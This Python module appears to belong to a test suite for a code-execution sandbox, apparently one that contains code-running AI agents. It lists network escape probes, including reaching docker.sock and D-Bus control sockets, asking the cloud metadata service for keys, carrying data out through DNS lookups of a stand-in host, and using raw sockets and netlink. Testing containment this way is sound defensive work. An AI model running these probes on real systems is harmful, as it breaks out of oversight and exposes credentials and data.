"""Network: the host's services by every road, its neighbours, names and the outside."""

from __future__ import annotations

from functools import partial

from codeact.sandbox.attacks.attack import Attack

_attack = partial(Attack, family="network", promise="network")

NETWORK = (
    _attack(
        name="host-loopback",
        tries="connect to a service on the host's loopback",
        code="socket.create_connection(('127.0.0.1', host.port), 2).send(b'x')",
        safe=True,
    ),
    _attack(
        name="host-loopback-6",
        tries="connect to a service on the host's IPv6 loopback",
        code="socket.create_connection(('::1', host.port6), 2).send(b'x')",
        safe=True,
    ),
    _attack(
        name="host-by-any-address",
        tries="connect to a service of the host by other spellings of its address",
        code="first_that_works(lambda a: socket.create_connection((a, host.port), 1), ['0.0.0.0', '127.1.2.3', '::ffff:127.0.0.1'])",
        safe=True,
    ),
    _attack(
        name="host-by-network-address",
        tries="connect to a service of the host by its address in the local network",
        code="socket.create_connection((host.address, host.port), 2).send(b'x')",
        safe=True,
    ),
    _attack(
        name="host-by-multipath",
        tries="connect to it by multipath TCP",
        code="s = socket.socket(socket.AF_INET, socket.SOCK_STREAM, 262); s.settimeout(2); s.connect(('127.0.0.1', host.port))",
        safe=True,
    ),
    _attack(
        name="host-datagrams",
        tries="send datagrams to a service of the host",
        code="""
        s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        for address in ('127.0.0.1', host.address): s.sendto(b'x', (address, host.udp))
        """,
        done="contained",
        within="net",
        safe=True,
    ),
    _attack(
        name="abstract-socket",
        tries="connect to an abstract unix socket of the host",
        code="socket.socket(socket.AF_UNIX).connect(host.abstract)",
        safe=True,
    ),
    _attack(
        name="socket-by-path",
        tries="connect to a unix socket of the host by its path",
        code="socket.socket(socket.AF_UNIX).connect(host.path)",
        promise="files",
        safe=True,
    ),
    _attack(
        name="datagrams-by-path",
        tries="send a datagram to a unix socket of the host by its path",
        code="socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM).sendto(b'x', host.datagram_path)",
        promise="files",
        safe=True,
    ),
    _attack(
        name="control-sockets",
        tries="reach the sockets by which machines are run",
        code="""
        names = ['docker.sock', 'podman/podman.sock', 'containerd/containerd.sock', 'dbus/system_bus_socket', 'systemd/private']
        places = [f'{folder}/{name}' for name in names for folder in ('/run', '/var/run')]
        first_that_works(socket.socket(socket.AF_UNIX).connect, places)
        """,
        promise="files",
    ),
    _attack(
        name="neighbour-loopback",
        tries="connect to a service of another session",
        code="socket.create_connection(('127.0.0.1', host.neighbour_port), 2)",
        safe=True,
    ),
    _attack(
        name="neighbour-abstract-socket",
        tries="connect to an abstract unix socket of another session",
        code="socket.socket(socket.AF_UNIX).connect(host.neighbour_abstract)",
        safe=True,
    ),
    _attack(
        name="take-host-port",
        tries="answer in place of a service of the host",
        code="s = socket.socket(); s.setsockopt(socket.SOL_SOCKET, 15, 1); s.bind(('127.0.0.1', host.port)); s.listen()",
        done="contained",
        within="net",
        safe=True,
    ),
    _attack(
        name="cloud-metadata",
        tries="ask the cloud's metadata service for keys",
        code="socket.create_connection(('169.254.169.254', 80), 2)",
    ),
    _attack(
        name="outside-address",
        tries="connect to an address outside",
        code="socket.create_connection(('1.1.1.1', 443), 2)",
    ),
    _attack(
        name="outside-address-6",
        tries="connect to an IPv6 address outside",
        code="socket.create_connection(('2606:4700:4700::1111', 443), 2)",
    ),
    _attack(
        name="resolve-name",
        tries="resolve a name, by which data can be carried out",
        code="socket.getaddrinfo('data-to-carry-out.example.com', 80)",
    ),
    _attack(
        name="ask-name-server",
        tries="send a question to a server of names outside",
        code="socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b'x' * 30, ('8.8.8.8', 53))",
    ),
    _attack(
        name="multicast",
        tries="call out to all machines of the local network",
        code="""
        s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
        first_that_works(lambda a: s.sendto(b'x', (a, 5353)), ['224.0.0.251', '255.255.255.255'])
        """,
    ),
    _attack(
        name="see-host-interfaces",
        tries="see the machine's network interfaces",
        code="if {name for _, name in socket.if_nameindex()} <= {'lo'}: raise OSError(101, 'only a loopback')",
        safe=True,
    ),
    _attack(
        name="see-host-connections",
        tries="see the services and connections of the host",
        code="""
        text = open('/proc/self/net/tcp').read() + open('/proc/self/net/unix').read()
        if f':{host.port:04X}' not in text and host.abstract[1:] not in text:
            raise OSError(101, 'none of the host')
        """,
        safe=True,
    ),
    _attack(
        name="raw-socket",
        tries="send packets of its own making",
        code="family_socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP)",
        promise="privileges",
    ),
    _attack(
        name="packet-socket",
        tries="listen to every packet of the machine",
        code="family_socket(17, socket.SOCK_RAW, 0x300)",
        promise="privileges",
    ),
    _attack(
        name="configure-network",
        tries="add a network interface by netlink",
        code="""
        import struct
        s = socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 0)
        name = struct.pack('HH8s', 12, 3, b'canary0')
        body = struct.pack('BxHiII', 0, 0, 0, 0, 0xffffffff) + name + struct.pack('HHHH6sxx', 16, 18, 10, 1, b'dummy\\0')
        s.send(struct.pack('IHHII', 16 + len(body), 16, 0x605, 1, 0) + body)
        answer = -struct.unpack_from('i', s.recv(4096), 16)[0]
        if answer: raise OSError(answer, os.strerror(answer))
        """,
        promise="privileges",
    ),
    _attack(
        name="bring-interface-up",
        tries="give the loopback another address",
        code="""
        import fcntl, struct
        request = struct.pack('16sH2s4s8x', b'lo', socket.AF_INET, b'', socket.inet_aton('10.9.8.7'))
        fcntl.ioctl(socket.socket(socket.AF_INET, socket.SOCK_DGRAM), 0x8916, request)
        """,
        promise="privileges",
    ),
)
